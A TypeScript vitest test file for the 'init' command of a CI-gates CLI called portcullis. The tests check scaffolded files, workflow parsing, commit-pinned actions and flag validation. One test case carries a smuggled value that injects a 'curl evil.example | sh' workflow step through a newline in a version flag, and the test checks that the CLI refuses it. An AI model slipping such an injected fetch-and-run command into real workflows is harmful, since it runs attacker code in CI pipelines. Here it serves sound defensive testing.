import { execFile } from "node:child_process";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { promisify } from "node:util";
import yaml from "js-yaml";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { WORKFLOW_FILES, gitignoreWithReports, moduleAddressFrom, nextCommands } from "../../src/init/scaffold.js";
import { ACTIONS, DAGGER_ENGINE_VERSION } from "../../src/init/templates.js";
import { loadWaivers } from "../../src/policy/load-files.js";
import { loadValidateConfig } from "../../src/validate/repository.js";
import { PORTCULLIS_VERSION } from "../../src/version.js";
import { REPO_ROOT, run, tempDir } from "../cli/cli-harness.js";

const execFileAsync = promisify(execFile);

/** The package's own package.json: the workflow's module address and version come from it. */
const OWN = z
  .object({ version: z.string(), repository: z.object({ url: z.string() }) })
  .parse(JSON.parse(readFileSync(path.join(REPO_ROOT, "gates", "package.json"), "utf8")));

const SCAFFOLDED = [
  "environments/development.yml",
  "environments/staging.yml",
  "environments/production.yml",
  "environments/schema.json",
  ".portcullis/waivers.yml",
  "portcullis.yml",
  WORKFLOW_FILES.dagger,
];

/** GitHub's own workflow parser over the files (the script the repository's workflow test uses). */
async function workflowErrors(files: readonly string[]): Promise<Record<string, string[]>> {
  const { stdout } = await execFileAsync(
    path.join(REPO_ROOT, "node_modules", ".bin", "tsx"),
    [path.join(REPO_ROOT, "dagger", "test", "workflows", "parse-workflows.ts"), ...files],
    { cwd: REPO_ROOT, timeout: 60_000 },
  );
  return z.record(z.string(), z.array(z.string())).parse(JSON.parse(stdout));
}

describe("portcullis init", () => {
  it("writes every file commented, and `policy check`, validate and the waivers accept what it wrote", async () => {
    const dir = tempDir();
    const result = await run(["init"], { cwd: dir });
    expect(result.code).toBe(0);
    for (const file of SCAFFOLDED) expect(result.stdout).toContain(`created   ${file}`);
    expect(result.stdout).toContain("updated   .gitignore (reports/)");
    expect(result.stdout.trimEnd().split("\n").slice(-4)).toEqual([
      "Next:",
      ...nextCommands("npx portcullis").map((command) => `  ${command}`),
    ]);

    for (const file of SCAFFOLDED.filter((name) => !name.endsWith(".json"))) {
      const text = readFileSync(path.join(dir, file), "utf8");
      expect(text.split("\n")[0], file).toMatch(/^# /);
      expect(() => yaml.load(text), file).not.toThrow();
    }
    expect(readFileSync(path.join(dir, ".gitignore"), "utf8")).toContain("\nreports/\n");

    const check = await run(["policy", "check"], { cwd: dir });
    expect(check.stdout).toContain("3 files valid");
    expect(check.code).toBe(0);
    expect((await loadValidateConfig(dir)).file).toBe(path.join(dir, "portcullis.yml"));
    expect(loadWaivers({ root: dir, now: new Date(), maxDays: 30 })).toEqual({ waivers: [], problems: [] });
    // The repository's file now wins over the built-in one, with the same rules.
    const ci = await run(["ci", "--env", "production", "--format", "json"], { cwd: dir, env: { PATH: "" } });
    expect(ci.stderr).toContain("policy: environments/production.yml\n");
  });

  it("never overwrites; --force does and lists what it replaced", async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, "portcullis.yml"), "validate:\n  include: [docs/**/*.md]\n");
    writeFileSync(path.join(dir, ".gitignore"), "node_modules/\n/reports\n");
    const first = await run(["init"], { cwd: dir });
    expect(first.stdout).toContain("kept      portcullis.yml (exists; --force replaces it)");
    expect(first.stdout).toContain("kept      .gitignore (already ignores reports/)");
    expect(readFileSync(path.join(dir, "portcullis.yml"), "utf8")).toBe("validate:\n  include: [docs/**/*.md]\n");

    const again = await run(["init"], { cwd: dir });
    for (const file of SCAFFOLDED) expect(again.stdout).toContain(`kept      ${file}`);
    expect(again.stdout).not.toContain("created");

    const forced = await run(["init", "--force"], { cwd: dir });
    expect(forced.code).toBe(0);
    for (const file of SCAFFOLDED) expect(forced.stdout).toContain(`replaced  ${file}`);
    expect(forced.stdout).toContain(`Replaced ${SCAFFOLDED.length} file(s) that existed: ${SCAFFOLDED.join(", ")}`);
    expect(readFileSync(path.join(dir, "portcullis.yml"), "utf8")).toMatch(/^# Settings of `portcullis validate`/);
  });

  it("writes workflows GitHub's parser accepts, pinning the module from the package's repository and version", async () => {
    const dir = tempDir();
    expect((await run(["init", "--host-workflow"], { cwd: dir })).code).toBe(0);
    const files = [WORKFLOW_FILES.dagger, WORKFLOW_FILES.host].map((file) => path.join(dir, file));
    const errors = await workflowErrors(files);
    for (const file of files) expect(errors[file], file).toEqual([]);

    const dagger = readFileSync(files[0] ?? "", "utf8");
    expect(dagger).toContain(`module: ${moduleAddressFrom(OWN.repository.url)}@v${OWN.version}\n`);
    expect(dagger).toContain(`version: ${DAGGER_ENGINE_VERSION}\n`);
    const host = readFileSync(files[1] ?? "", "utf8");
    expect(host).toContain('run: npx portcullis ci --env "$PORTCULLIS_ENV"');
    // The scanners come checksum-checked through `tools install`, not piped from curl into tar.
    expect(host).toContain("run: npx portcullis tools install gitleaks trivy semgrep k6\n");
    expect(host).not.toMatch(/curl|pipx/);

    // Every action pinned by a full commit, its release named beside it, the same one everywhere:
    // the workflows init writes and this repository's own.
    const ownWorkflow = readFileSync(path.join(REPO_ROOT, ".github", "workflows", "ci.yml"), "utf8");
    const uses = [dagger, host, ownWorkflow].flatMap((text) => [...text.matchAll(/^\s*(?:- )?uses: (\S+)(.*)$/gm)]);
    expect(uses.length).toBeGreaterThan(8);
    const known = new Map(
      Object.values(ACTIONS).map((pin) => [pin.split(" # ")[0] ?? "", ` # ${pin.split(" # ")[1] ?? ""}`]),
    );
    const pinned = new Map<string, string>();
    for (const [line, ref = "", comment = ""] of uses) {
      const [action = "", sha = ""] = ref.split("@");
      expect(sha, line).toMatch(/^[0-9a-f]{40}$/);
      expect(comment, line).toBe(known.get(sha));
      expect(pinned.get(action) ?? sha, line).toBe(sha);
      pinned.set(action, sha);
    }
  }, 60_000);

  it("takes the module address and version from flags", async () => {
    const dir = tempDir();
    const result = await run(["init", "--module", "github.com/acme/gates", "--module-version", "v9.9.9"], { cwd: dir });
    expect(result.stdout).toContain("calls the Dagger module github.com/acme/gates@v9.9.9");
    expect(readFileSync(path.join(dir, WORKFLOW_FILES.dagger), "utf8")).toContain(
      "module: github.com/acme/gates@v9.9.9\n",
    );
  });

  it.each([
    [
      ["--module-version", "v1\n      run: curl evil.example | sh"],
      '--module-version "v1\\n      run: curl evil.example | sh" is not a tag or commit',
    ],
    [["--module", "https://github.com/acme/gates"], '--module "https://github.com/acme/gates" is not a module address'],
    [["--module", "github.com/acme/gates@v1"], "is not a module address"],
  ])("refuses %j, which would be written into the workflow as it is (exit 2)", async (flags, message) => {
    const dir = tempDir();
    const result = await run(["init", ...flags], { cwd: dir });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(message);
    expect(existsSync(path.join(dir, WORKFLOW_FILES.dagger))).toBe(false);
  });

  it("pins the Dagger engine the module declares", () => {
    const manifest = z
      .object({ engineVersion: z.string() })
      .parse(JSON.parse(readFileSync(path.join(REPO_ROOT, "dagger.json"), "utf8")));
    expect(DAGGER_ENGINE_VERSION).toBe(manifest.engineVersion);
    expect(OWN.version).toBe(PORTCULLIS_VERSION);
  });
});

describe("moduleAddressFrom", () => {
  it.each([
    ["git+https://github.com/acme/portcullis.git", "github.com/acme/portcullis"],
    ["https://github.com/acme/portcullis", "github.com/acme/portcullis"],
    ["git@github.com:acme/portcullis.git", "github.com/acme/portcullis"],
    ["ssh://git@github.com/acme/portcullis.git", "github.com/acme/portcullis"],
    ["github:acme/portcullis", "github.com/acme/portcullis"],
    ["acme/portcullis", "github.com/acme/portcullis"],
  ])("%s -> %s", (repository, address) => {
    expect(moduleAddressFrom(repository)).toBe(address);
  });

  it("asks for --module when it cannot tell", () => {
    expect(() => moduleAddressFrom("not a url")).toThrow(
      expect.objectContaining({ code: "USAGE", fix: "pass --module github.com/<owner>/<name>" }),
    );
  });
});

describe("gitignoreWithReports", () => {
  it.each([
    [undefined, "# Portcullis reports (regenerated by every run)\nreports/\n"],
    ["dist\n", "dist\n\n# Portcullis reports (regenerated by every run)\nreports/\n"],
    ["dist", "dist\n\n# Portcullis reports (regenerated by every run)\nreports/\n"],
    ["reports/\n", undefined],
    ["/reports\n", undefined],
  ])("%j", (existing, expected) => {
    expect(gitignoreWithReports(existing)).toBe(expected);
  });
});
